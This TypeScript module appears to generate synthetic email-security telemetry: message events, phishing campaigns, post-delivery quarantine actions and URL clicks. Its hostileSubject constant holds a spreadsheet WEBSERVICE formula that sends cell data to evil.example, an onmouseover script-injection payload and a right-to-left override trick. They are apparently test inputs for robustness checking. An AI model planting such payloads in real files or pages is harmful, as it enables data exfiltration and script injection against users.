import type { LocalDay } from './local-calendar.ts';
import { utcText } from './log-row.ts';
import type { SimulatedUser } from './organization.ts';
import type { RandomStream } from './random-stream.ts';
import type { PlannedEvent, TelemetryTable, Tenant } from './telemetry.ts';
import { campaignsOn, drawCampaignInstant, drawDailyCount, drawInstant, rowStream } from './telemetry.ts';

/** Kinds of messages: the direction, or the threat and what became of it. */
const mailKinds = [
  'inbound-clean',
  'outbound',
  'internal',
  'spam-junked',
  'spam-blocked',
  'phish-blocked',
  'phish-delivered',
  'malware-blocked',
] as const;
export type MailKind = (typeof mailKinds)[number];
const phishDelivered = mailKinds.indexOf('phish-delivered');

const kindWeights = [
  { value: 0, weight: 540 },
  { value: 1, weight: 150 },
  { value: 2, weight: 190 },
  { value: 3, weight: 48 },
  { value: 4, weight: 40 },
  { value: 5, weight: 22 },
  { value: 6, weight: 1.2 },
  { value: 7, weight: 4 },
] as const;

const partners = ['fabrikam.example', 'adatum.example', 'litware.example', 'proseware.example', 'tailspin.example'] as const;
const bulkSenders = ['offers.example', 'newsletter.example', 'win-now.example'] as const;
const subjects = [
  'Minutes of the meeting',
  'Updated planning',
  'Invoice attached',
  'Question about the order',
  'Re: delivery dates',
  'Quarter figures',
  'Lunch?',
] as const;
const phishSubjects = [
  'Your password expires today',
  'Parcel on hold: confirm address',
  'New benefits: sign in to view',
  'Shared document waiting for you',
] as const;
const hostileSubject = '=WEBSERVICE("https://evil.example/?"&A1) <b onmouseover=alert(1)>RE: \u202etnuocca</b>';

export const emailEvents: TelemetryTable = {
  name: 'EmailEvents',
  kinds: mailKinds,
  plan(day, tenant) {
    const random = tenant.context.random.split('plan', 'EmailEvents', day.date);
    const count = drawDailyCount(tenant, day, random, 860, 0.2);
    const events: PlannedEvent[] = [];
    for (let sequence = 0; sequence < count; sequence++) {
      events.push({ atMs: drawInstant(tenant, day, random, 'office'), kind: random.pickWeighted<number>(kindWeights), sequence });
    }
    for (const campaign of campaignsOn(tenant, day, 'phishing')) {
      // A part of a wave passes the filters before they learn it; that part is what is removed after delivery.
      for (let message = 0; message < campaign.volume; message++) {
        const kind = message < campaign.users.length ? phishDelivered : phishDelivered - 1;
        events.push({ atMs: drawCampaignInstant(campaign, random), kind, sequence: events.length, campaign });
      }
    }
    return events;
  },
  row(event, day, tenant) {
    const kind = mailKinds[event.kind]!;
    const mail = makeMail(tenant, day, event);
    const verdict = verdicts[kind];
    const [senderName, senderDomain] = splitAddress(mail.sender);
    return {
      TimeGenerated: utcText(event.atMs),
      NetworkMessageId: mail.id,
      SenderFromAddress: mail.sender,
      SenderFromDomain: senderDomain,
      ...(mail.urlCount === 0 && !verdict.threat.startsWith('Phish')
        ? {}
        : { SenderDisplayName: verdict.threat.startsWith('Phish') ? 'Service desk' : senderName }),
      RecipientEmailAddress: mail.recipient.upn,
      Subject: mail.subject,
      EmailDirection: kind === 'outbound' ? 'Outbound' : kind === 'internal' ? 'Intra-org' : 'Inbound',
      DeliveryAction: verdict.action,
      DeliveryLocation: verdict.location,
      ...(verdict.threat === '' ? {} : { ThreatTypes: verdict.threat, DetectionMethods: verdict.methods }),
      UrlCount: verdict.threat === 'Phish' ? 1 : mail.urlCount,
      AttachmentCount: kind === 'malware-blocked' ? 1 : 0,
    };
  },
};

const verdicts: Readonly<
  Record<MailKind, { readonly action: string; readonly location: string; readonly threat: string; readonly methods: string }>
> = {
  'inbound-clean': { action: 'Delivered', location: 'Inbox/folder', threat: '', methods: '' },
  outbound: { action: 'Delivered', location: 'On-premises/external', threat: '', methods: '' },
  internal: { action: 'Delivered', location: 'Inbox/folder', threat: '', methods: '' },
  'spam-junked': { action: 'Junked', location: 'Junk folder', threat: 'Spam', methods: '{"Spam":["Advanced filter"]}' },
  'spam-blocked': { action: 'Blocked', location: 'Quarantine', threat: 'Spam', methods: '{"Spam":["Domain reputation"]}' },
  'phish-blocked': { action: 'Blocked', location: 'Quarantine', threat: 'Phish, Spam', methods: '{"Phish":["URL detonation"]}' },
  'phish-delivered': { action: 'Delivered', location: 'Inbox/folder', threat: 'Phish', methods: '{"Phish":["Campaign"]}' },
  'malware-blocked': { action: 'Blocked', location: 'Quarantine', threat: 'Malware', methods: '{"Malware":["File detonation"]}' },
};

interface Mail {
  readonly id: string;
  readonly sender: string;
  readonly recipient: SimulatedUser;
  readonly subject: string;
  readonly urlCount: number;
  /** For what happens to the message afterwards. */
  readonly later: RandomStream;
}

/** The same message for every table that speaks of it. */
function makeMail(tenant: Tenant, day: LocalDay, event: PlannedEvent): Mail {
  const { organization, context } = tenant;
  const random = rowStream(tenant, 'EmailEvents', day, event.sequence);
  const kind = mailKinds[event.kind]!;
  const { campaign } = event;
  const id = random.guid();
  const person = random.pick(campaign?.users ?? organization.users);
  const other = random.pick(organization.users);
  const outsider = `${random.pick(['info', 'sales', 'service', 'j.doe', 'm.jansen'])}@${random.pick(kind === 'inbound-clean' || kind === 'outbound' ? partners : bulkSenders)}`;
  const isPhish = kind === 'phish-blocked' || kind === 'phish-delivered';
  const isHostile = context.hostile && isPhish && campaign === undefined && random.chance(0.04);
  const sender = campaign ? `no-reply@${campaign.attackerDomain}` : kind === 'outbound' || kind === 'internal' ? other.upn : outsider;
  return {
    id,
    sender,
    // Outbound mail goes to the outside; the person is then of no interest but for the name before the @.
    recipient: kind === 'outbound' ? { ...person, upn: outsider } : person,
    subject: isHostile ? hostileSubject : random.pick(isPhish ? phishSubjects : subjects),
    urlCount: random.integer(0, 3),
    later: random,
  };
}

/** Delivered phishing that was removed afterwards, or failed to be; the same day as the message. */
export const emailPostDeliveryEvents: TelemetryTable = {
  name: 'EmailPostDeliveryEvents',
  kinds: ['zap-removed', 'zap-failed'],
  plan(day, tenant) {
    return deliveredPhish(tenant, day).flatMap((event) => {
      const random = makeMail(tenant, day, event).later.split('zap');
      if (random.chance(0.12)) return [];
      const atMs = Math.min(event.atMs + random.integer(4, 150) * 60_000, day.endMs - 1);
      return [{ ...event, atMs, kind: random.chance(0.06) ? 1 : 0 }];
    });
  },
  row(event, day, tenant) {
    const mail = makeMail(tenant, day, { ...event, kind: phishDelivered });
    return {
      TimeGenerated: utcText(event.atMs),
      NetworkMessageId: mail.id,
      RecipientEmailAddress: mail.recipient.upn,
      SenderFromAddress: mail.sender,
      Action: 'Moved to quarantine',
      ActionType: 'Phish ZAP',
      ActionTrigger: 'SpecialAction',
      ActionResult: event.kind === 0 ? 'Success' : 'Error',
      DeliveryLocation: event.kind === 0 ? 'Quarantine' : 'Inbox/folder',
      ThreatTypes: 'Phish',
      EmailDirection: 'Inbound',
    };
  },
};

/** Clicks in delivered phishing, and some harmless clicks of every day. */
export const urlClickEvents: TelemetryTable = {
  name: 'UrlClickEvents',
  kinds: ['allowed', 'blocked', 'clicked-through'],
  plan(day, tenant) {
    const random = tenant.context.random.split('plan', 'UrlClickEvents', day.date);
    const harmless = Array.from({ length: drawDailyCount(tenant, day, random, 60, 0.15) }, (_, sequence) => ({
      atMs: drawInstant(tenant, day, random, 'office'),
      kind: random.chance(0.03) ? 1 : 0,
      sequence: 1_000_000 + sequence,
    }));
    const lured = deliveredPhish(tenant, day).flatMap((event) => {
      const own = makeMail(tenant, day, event).later.split('click');
      if (!own.chance(0.3)) return [];
      const kind = own.pickWeighted([
        { value: 0, weight: 3 },
        { value: 1, weight: 5 },
        { value: 2, weight: 2 },
      ]);
      return [{ ...event, atMs: Math.min(event.atMs + own.integer(1, 90) * 60_000, day.endMs - 1), kind }];
    });
    return [...harmless, ...lured];
  },
  row(event, day, tenant) {
    const isHarmless = event.sequence >= 1_000_000;
    const random = rowStream(tenant, 'UrlClickEvents', day, event.sequence);
    const mail = isHarmless ? undefined : makeMail(tenant, day, { ...event, kind: phishDelivered });
    const user = mail?.recipient ?? random.pick(tenant.organization.users);
    const url =
      mail === undefined ? `https://${random.pick(partners)}/portal` : `https://${splitAddress(mail.sender)[1]}/login?u=${random.hex(8)}`;
    return {
      TimeGenerated: utcText(event.atMs),
      AccountUpn: user.upn,
      ActionType: event.kind === 1 ? 'ClickBlocked' : 'ClickAllowed',
      IsClickedThrough: event.kind === 2,
      Url: url,
      UrlChain: JSON.stringify([url]),
      NetworkMessageId: mail?.id ?? random.guid(),
      IPAddress: user.site.officeIp,
      Workload: 'Email',
      ...(mail === undefined && event.kind !== 1 ? {} : { ThreatTypes: 'Phish' }),
    };
  },
};

function splitAddress(address: string): readonly [name: string, domain: string] {
  const at = address.indexOf('@');
  return [address.slice(0, at), address.slice(at + 1)];
}

function deliveredPhish(tenant: Tenant, day: LocalDay): readonly PlannedEvent[] {
  return emailEvents.plan(day, tenant).filter((event) => event.kind === phishDelivered);
}
